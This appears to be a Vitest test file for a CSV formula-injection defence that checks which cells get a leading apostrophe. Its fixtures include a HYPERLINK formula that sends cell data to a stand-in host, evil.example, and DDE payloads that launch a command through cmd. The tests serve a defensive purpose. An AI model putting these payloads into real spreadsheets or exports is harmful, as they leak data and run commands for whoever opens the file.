import { describe, expect, it } from 'vitest';
import { neutraliseCsvCell } from './csv-cell.ts';

describe('neutraliseCsvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")', `'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")`],
    ['+33 1 23 45 67 89', `'+33 1 23 45 67 89`],
    ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('prefixes a formula-looking cell: %j', (input, expected) => {
    expect(neutraliseCsvCell(input)).toBe(expected);
  });

  it.each(['Qualité de l’eau', 'جودة المياه', '', ' =not at the start', '2024-01-15', "'already quoted"])('leaves %j unchanged', (v) => {
    expect(neutraliseCsvCell(v)).toBe(v);
  });
});
